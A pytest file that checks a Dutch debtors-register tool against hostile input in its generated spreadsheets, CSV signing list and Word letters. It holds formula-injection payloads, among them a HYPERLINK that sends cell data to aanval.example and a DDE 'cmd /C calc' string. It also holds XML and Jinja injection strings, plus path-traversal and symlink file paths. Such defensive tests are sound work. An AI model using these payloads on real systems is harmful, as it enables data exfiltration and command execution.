"""Hostile values in the register, end to end through ``debiteuren review --brieven`` (issue 9, item 3).

Formula text stays text in the result sheets and the signing list; XML and
Jinja syntax in any field the letters use comes out literally; a debtor number
with ``/``, ``..``, ``:``, ``\\``, NUL or a reserved Windows name cannot steer a
letter's file out of its folder; an invoice copy (Factuurbestand) outside the
register's folder is refused with a Dutch note.
"""

from __future__ import annotations

import csv
import posixpath
import re
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from lxml import etree

from demo_registers import (
    PEILDATUM,
    demo_copy,
    edit_demo,
    headers,
    letters_folder,
    logged_letters,
    rename_debtors,
    review_with_letters,
    rows_of,
    set_text,
)

FORMULA = '=HYPERLINK("http://aanval.example/?d="&A1,"Klik hier")'
# Per Debiteuren column: text that is a formula, markup or a template to a spreadsheet or Word.
DEBTOR_FIELDS = {
    "Naam": FORMULA + " <w:t>x</w:t> {{ debiteur.naam }}",
    "Contactpersoon": "@SUM(1+1)*cmd|' /C calc'!A0 {% for a in b %}",
    "Adres": "+31 </w:t></w:r></w:p><w:p> {# c #}",
    "Postcode": "-1 {{ bedrijf.iban }}",
    "Plaats": "=1+1 ]]> <![CDATA[x]]>",
    "Land": "<w:p>{% raw %}",
}
SETTINGS = {
    "Bedrijfsnaam": "{{ bedrijf.naam }} & <Zn>",
    "Adres": "=1+2 <w:t>",
    "Ondertekenaar": "+31 {% raw %}",
    "Incassobureau": "<w:t>Incasso</w:t> {{ x }}",
}
ACTION_TEXT = "@SUM(A1) {% if x %}<w:br/>"
# The demo's debtors with a letter due on 31 October 2026, renumbered. 10010's new number makes the
# same safe file name as 10008's (both get a reminder): the second letter gets a numbered name, never
# the first one's.
NUMBERS = {
    "10004": "../x/10004",
    "10008": "../x/10008",
    "10010": "x:10008",
    "10017": "C:\\10017",
    "10019": "CON",
    "10028": "..\\_x0000_\\NUL",  # Excel's escape for a NUL character
    "10025": "/" * 100 + ".." * 50 + "10025",
    "10016": "B" * 300,  # too long for a payment reference: no letter, a reason
}
HOSTILE_NAME = DEBTOR_FIELDS["Naam"]
WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}


def make_hostile(workbook) -> None:
    rename_debtors(workbook, NUMBERS)
    debtors = workbook["Debiteuren"]
    columns = headers(debtors)
    for number in NUMBERS.values():
        for row in rows_of(debtors, "Debiteurnummer", number):
            for field, value in DEBTOR_FIELDS.items():
                set_text(debtors.cell(row, columns[field]), value)
    settings = workbook["Instellingen"]
    columns = headers(settings)
    for key, value in SETTINGS.items():
        [row] = rows_of(settings, "Instelling", key)
        set_text(settings.cell(row, columns["Waarde"]), value)
    actions = workbook["Acties"]
    columns = headers(actions)
    for row in rows_of(actions, "Debiteurnummer", NUMBERS["10028"]):
        set_text(actions.cell(row, columns["Omschrijving"]), ACTION_TEXT)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One review with letters on the hostile register: (workbook, exit code, stdout, stderr)."""
    path = demo_copy(tmp_path_factory.mktemp("vijandig") / "register")
    edit_demo(path, make_hostile)
    code, out, err = review_with_letters(path)
    return path, code, out, err


def docx_text(path: Path) -> str:
    document = docx.Document(str(path))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts += [cell.text for cell in row.cells]
    for section in document.sections:
        parts += [p.text for p in section.header.paragraphs] + [p.text for p in section.footer.paragraphs]
    return "\n".join(parts)


def letters_to_hostile_debtors(path: Path) -> list[Path]:
    safe = ("x_10004", "x_10008", "C_10017", "CON", "NUL", "10025")
    return sorted(p for p in letters_folder(path).glob("*.docx") if p.name.startswith(safe))


def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet name -> its zip member."""
    ns = {
        "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        "p": "http://schemas.openxmlformats.org/package/2006/relationships",
    }
    with zipfile.ZipFile(path) as z:
        book = etree.fromstring(z.read("xl/workbook.xml"))
        rels = etree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
    targets = {r.get("Id"): r.get("Target") for r in rels.findall("p:Relationship", ns)}
    return {
        s.get("name"): posixpath.normpath(posixpath.join("xl", targets[s.get(f"{{{ns['r']}}}id")].lstrip("/"))).replace(
            "xl/xl/", "xl/"
        )
        for s in book.findall("m:sheets/m:sheet", ns)
    }


def test_the_review_with_letters_completes(hostile_run):
    path, code, out, err = hostile_run
    assert code == 0, err
    assert "Onverwachte fout" not in err and "Traceback" not in err


@pytest.mark.parametrize("sheet", ["Ouderdom", "Actielijst"])
def test_formula_text_stays_text_in_the_result_sheets(hostile_run, sheet):
    path, *_ = hostile_run
    part = sheet_parts(path)[sheet]
    with zipfile.ZipFile(path) as z:
        root = etree.fromstring(z.read(part))
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    # No formula on a result sheet but the totals row's own sums (Ouderdom), none from the register's text.
    formulas = {f.text for f in root.iter(f"{main}f")}
    assert all(f.startswith(f"SUBTOTAL(109,{sheet}[") for f in formulas) and HOSTILE_NAME not in str(formulas)
    assert len(formulas) == (12 if sheet == "Ouderdom" else 0)  # six ageing columns, six amounts after them
    cells = [c for c in root.iter(f"{main}c") if "".join(c.itertext()) == HOSTILE_NAME]
    assert cells, f"the hostile name is not on {sheet}"
    assert {c.get("t") for c in cells} == {"inlineStr"}
    # openpyxl (as Excel) reads it back as a string, not a formula.
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        found = [c for row in workbook[sheet].iter_rows() for c in row if c.value == HOSTILE_NAME]
    finally:
        workbook.close()
    assert found and {c.data_type for c in found} == {"s"}


def test_the_signing_list_keeps_formula_text_as_text(hostile_run):
    path, *_ = hostile_run
    with open(letters_folder(path) / "brievenbundel_tekenlijst.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    hostile = [r for r in rows if HOSTILE_NAME in r["Debiteur"]]
    assert len(hostile) == 7  # one letter per debtor (design §5), to 7 of the 8 renumbered debtors
    assert {r["Debiteur"] for r in hostile} == {"'" + HOSTILE_NAME}
    assert {r["Ondertekenaar"][:4] for r in rows} == {"'+31"}
    assert all("\x00" not in value for r in rows for value in r.values())


def test_markup_and_template_syntax_come_out_literally_in_every_letter(hostile_run):
    path, *_ = hostile_run
    letters = letters_to_hostile_debtors(path)
    assert len(letters) == 7
    expected = [
        HOSTILE_NAME,
        DEBTOR_FIELDS["Adres"],
        DEBTOR_FIELDS["Postcode"],
        DEBTOR_FIELDS["Plaats"],
        DEBTOR_FIELDS["Land"].upper(),  # a country that is not a known code is printed in capitals
        SETTINGS["Bedrijfsnaam"],
        SETTINGS["Adres"],
        SETTINGS["Ondertekenaar"],
    ]
    for letter in letters:
        text = docx_text(letter)
        missing = [value for value in expected if value not in text]
        assert not missing, (letter.name, missing)
        with zipfile.ZipFile(letter) as z:
            xml = z.read("word/document.xml").decode("utf-8")
        # Escaped in the XML, never markup: no element was added by the data.
        assert "<w:t>x</w:t>" not in xml and "&lt;w:t&gt;x&lt;/w:t&gt;" in xml
        assert "</w:t></w:r></w:p><w:p> {# c #}" not in xml
        etree.fromstring(xml.encode("utf-8"))  # well-formed
    overdracht = docx_text(next(p for p in letters if "overdracht" in p.name))
    assert ACTION_TEXT in overdracht and SETTINGS["Incassobureau"] in overdracht


def test_letter_files_stay_in_the_output_folder_with_safe_names(hostile_run):
    path, *_ = hostile_run
    folder = letters_folder(path)
    everything = {p.relative_to(path.parent) for p in path.parent.rglob("*") if p.is_file()}
    outside = [p for p in everything if p.parts[0] not in ("brieven", "reservekopieen") and p != Path(path.name)]
    assert outside == []
    assert {p.parent for p in everything if p.parts[0] == "brieven"} == {folder.relative_to(path.parent)}
    letters = sorted(folder.glob("*.docx"))
    for letter in letters:
        assert re.fullmatch(r"[A-Za-z0-9_-]+\.docx", letter.name), letter.name
        assert len(letter.name) <= 100
        assert letter.name.split(".")[0].upper() not in WINDOWS_RESERVED
    names = [p.name for p in letters]
    # Two debtors whose numbers make the same safe name: two files, neither overwritten.
    assert {"x_10008_betalingsherinnering_2026-10-31.docx", "x_10008_betalingsherinnering_2026-10-31-2.docx"} <= set(
        names
    )
    logged = logged_letters(path)
    documents = [Path(doc).name for _, _, doc in logged if PEILDATUM.isoformat() in doc]
    # A letter that takes several steps (one letter per debtor per day) has a log row per step.
    assert sorted(n for n in names if not n.startswith("brievenbundel")) == sorted(set(documents))
    logged_numbers = {debtor for debtor, _, doc in logged if PEILDATUM.isoformat() in doc}
    assert {NUMBERS[n] for n in ("10004", "10010", "10017", "10019", "10025")} <= logged_numbers
    assert any("\x00" in n or "NUL" in n for n in logged_numbers)  # the NUL debtor's letter is logged too


def test_a_debtor_number_too_long_for_a_payment_reference_is_skipped_with_a_reason(hostile_run):
    path, code, out, err = hostile_run
    assert code == 0
    assert "te lang voor een betalingskenmerk" in out
    assert not [p for p in letters_folder(path).iterdir() if p.name.startswith("BBBB")]
    assert NUMBERS["10016"] not in {debtor for debtor, _, _ in logged_letters(path)}


def invoice_files(workbook, files: dict[str, str]) -> None:
    """Factuurbestand of every invoice of a debtor."""
    invoices = workbook["Facturen"]
    columns = headers(invoices)
    for debtor, name in files.items():
        for row in rows_of(invoices, "Debiteurnummer", debtor):
            set_text(invoices.cell(row, columns["Factuurbestand"]), name)


def test_invoice_copies_outside_the_registers_folder_are_refused(tmp_path):
    path = demo_copy(tmp_path / "register")
    secret = tmp_path / "geheim.pdf"
    secret.write_bytes(b"%PDF-1.4 secret")
    (path.parent / "facturen").mkdir()
    (path.parent / "facturen" / "eigen.pdf").write_bytes(b"%PDF-1.4 own")
    (path.parent / "facturen" / "link.pdf").symlink_to(secret)
    files = {
        "10017": str(secret),  # absolute
        "10019": "../geheim.pdf",
        "10028": "facturen/link.pdf",  # inside by name, outside by target
        "10025": "facturen/../../geheim.pdf",
        "10008": "facturen/eigen.pdf",
    }
    edit_demo(path, lambda workbook: invoice_files(workbook, files))
    code, out, err = review_with_letters(path)
    assert code == 0, err
    refused = [
        line for line in out.splitlines() if "staat buiten de map van het register en is niet bijgevoegd" in line
    ]
    # One note per invoice named in a letter; each names the invoice and the path as written.
    for debtor in ("10017", "10019", "10028", "10025"):
        assert any(files[debtor] in line for line in refused), debtor
    assert all(line.startswith("Factuur ") for line in refused)
    assert not any("eigen.pdf" in line for line in out.splitlines() if "niet bijgevoegd" in line)
    letters = letters_folder(path)
    assert "eigen.pdf" in docx_text(next(letters.glob("10008_*.docx")))
    for debtor in ("10017", "10019", "10028", "10025"):
        for letter in letters.glob(f"{debtor}_*.docx"):
            assert "geheim" not in docx_text(letter) and "link.pdf" not in docx_text(letter)
